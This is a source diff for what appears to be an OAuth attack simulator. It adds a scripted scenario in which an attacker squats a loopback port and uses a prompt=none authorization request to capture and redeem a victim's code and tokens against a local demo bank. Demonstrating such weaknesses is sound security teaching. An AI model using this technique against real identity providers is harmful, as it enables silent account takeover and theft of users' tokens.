@@ -4,6 +4,7 @@
 #include "bank/BankServer.h"
 #include "bank/BankTrace.h"
 #include "bank/Check.h"
+#include "bank/ClientRegistration.h"
 #include "crypto/Pkce.h"
 #include "crypto/SecureRandom.h"
 #include "storage/SeedData.h"
@@ -228,6 +229,45 @@ public:
             { { "Authorization", basic(QString::fromLatin1(SeedCoolLoanClientId), m_coolLoanSecret) } });
     }
 
+    // A public client's code exchange: client_id in the body, no secret (RFC 6749 §2.1, §4.1.3).
+    WebAnswer redeemAsPublic(WebAgent &agent, const QString &clientId, const QString &code,
+        const QString &redirectUri, const QByteArray &verifier)
+    {
+        return agent.postForm(bankUrl(QStringLiteral("/token")),
+            { { QStringLiteral("grant_type"), QStringLiteral("authorization_code") },
+                { QStringLiteral("code"), code }, { QStringLiteral("redirect_uri"), redirectUri },
+                { QStringLiteral("client_id"), clientId },
+                { QStringLiteral("code_verifier"), QString::fromLatin1(verifier) } });
+    }
+
+    // A client registered on this run's bank, as `codeflow-bank register-client` would; empty id: failed.
+    RegisteredClient registerClient(
+        const QString &name, const QStringList &redirectUris, const QStringList &scopes, bool isPublic)
+    {
+        const auto result = cfl::registerClient(*m_server.store(),
+            { name, redirectUris, scopes, isPublic, {} }, QDateTime::currentSecsSinceEpoch());
+        if (const auto *problem = std::get_if<QString>(&result)) {
+            fail(QStringLiteral("could not register %1: %2").arg(name, *problem));
+            return {};
+        }
+        return std::get<RegisteredClient>(result);
+    }
+
+    // An authorization request for any client; `extra` adds or replaces parameters.
+    QUrl authorizationUrl(const QString &clientId, const QString &redirectUri, const QString &scope,
+        const QByteArray &verifier, const Fields &extra = {}) const
+    {
+        Fields fields { { QStringLiteral("response_type"), QStringLiteral("code") },
+            { QStringLiteral("client_id"), clientId }, { QStringLiteral("redirect_uri"), redirectUri },
+            { QStringLiteral("scope"), scope }, { QStringLiteral("state"), randomString() },
+            { QStringLiteral("code_challenge"), QString::fromLatin1(pkce::s256Challenge(verifier)) },
+            { QStringLiteral("code_challenge_method"), QStringLiteral("S256") } };
+        fields.append(extra);
+        QUrl url = bankUrl(QStringLiteral("/authorize"));
+        url.setQuery(QString::fromLatin1(encodeForm(fields)));
+        return url;
+    }
+
     WebAnswer accounts(WebAgent &agent, const QString &accessToken)
     {
         return agent.get(bankUrl(QStringLiteral("/api/accounts")),
@@ -416,6 +456,67 @@ void playLaxRedirect(Run &run)
     const Tokens stolen = Tokens::from(run.redeem(run.malware, code, stealUri, verifier));
     run.malloryHolds(run.malware, stolen, QStringLiteral("John's tokens from a code sent to her site"));
 }
+
+void playPortSquatting(Run &run)
+{
+    // CoolLoan's desktop companion: a public client on a loopback redirect URI, any port (RFC 8252 §7.3).
+    const QString desktopScope = QStringLiteral("openid profile accounts:read");
+    const RegisteredClient desktop = run.registerClient(QStringLiteral("CoolLoan Desktop"),
+        { QStringLiteral("http://127.0.0.1/callback") }, desktopScope.split(QLatin1Char(' ')), true);
+    if (!run.ok())
+        return;
+
+    // John uses it as usual: logs in, consents (remembered), the app redeems its code.
+    const QString johnsRedirect = QStringLiteral("http://127.0.0.1:5556/callback");
+    const QByteArray johnsVerifier = pkce::generateVerifier();
+    WebAnswer last;
+    const QUrl johnsCallback = run.authorize(
+        run.authorizationUrl(desktop.clientId, johnsRedirect, desktopScope, johnsVerifier), &last);
+    const QString johnsCode = QUrlQuery(johnsCallback).queryItemValue(QStringLiteral("code"));
+    if (johnsCode.isEmpty()) {
+        run.fail(QStringLiteral("John's browser got no code for CoolLoan Desktop (%1)").arg(last.status));
+        return;
+    }
+    const Tokens johns = Tokens::from(
+        run.redeemAsPublic(run.coolLoan, desktop.clientId, johnsCode, johnsRedirect, johnsVerifier));
+    if (johns.access.isEmpty()) {
+        run.fail(QStringLiteral("CoolLoan Desktop got no tokens for John's code"));
+        return;
+    }
+    run.outcome.johnSubject = jwtPayload(johns.access).value(QStringLiteral("sub")).toString();
+
+    // Mallory's program squats another loopback port and opens a link for the same client there.
+    MalloryListener listener;
+    QString error;
+    if (!listener.listen(&error)) {
+        run.fail(QStringLiteral("Mallory's listener could not listen: %1").arg(error));
+        return;
+    }
+    listener.onRequest = [&run](const QUrl &url) { run.recordListener(url); };
+    const QString squatted = listener.url(QStringLiteral("/callback")).toString();
+    const QByteArray malloryVerifier = pkce::generateVerifier();
+    const QUrl link = run.authorizationUrl(desktop.clientId, squatted, desktopScope, malloryVerifier,
+        { { QStringLiteral("prompt"), QStringLiteral("none") } });
+    run.note(malloryMalware(),
+        QStringLiteral("listens on %1 and opens John's browser at a CoolLoan Desktop link with prompt=none, "
+                       "redirect_uri there and her own PKCE challenge")
+            .arg(squatted));
+    run.attackBegins();
+    const QUrl callback = run.authorize(link, &last);
+    if (!callback.isEmpty())
+        run.browser.get(callback); // the browser follows eddy's redirect: to Mallory's port
+    QString code;
+    for (const QUrl &url : listener.received())
+        code = QUrlQuery(url).queryItemValue(QStringLiteral("code"));
+    if (code.isEmpty()) {
+        run.note(malloryListener(), QStringLiteral("no code arrived"));
+        return;
+    }
+    run.note(malloryListener(), QStringLiteral("Mallory now holds John's code — John saw nothing"));
+    const Tokens stolen
+        = Tokens::from(run.redeemAsPublic(run.malware, desktop.clientId, code, squatted, malloryVerifier));
+    run.malloryHolds(run.malware, stolen, QStringLiteral("John's tokens through a squatted loopback port"));
+}
 } // namespace
 
 QJsonObject AttackOutcome::toJson() const
@@ -449,6 +550,8 @@ AttackOutcome runAttack(const Scenario &scenario, const QList<Weakness> &weaknes
             playPkceDowngrade(run);
         else if (scenario.id == QLatin1String("lax-redirect"))
             playLaxRedirect(run);
+        else if (scenario.id == QLatin1String("port-squatting"))
+            playPortSquatting(run);
         else
             run.fail(QStringLiteral("no play for scenario '%1'").arg(scenario.id));
     }
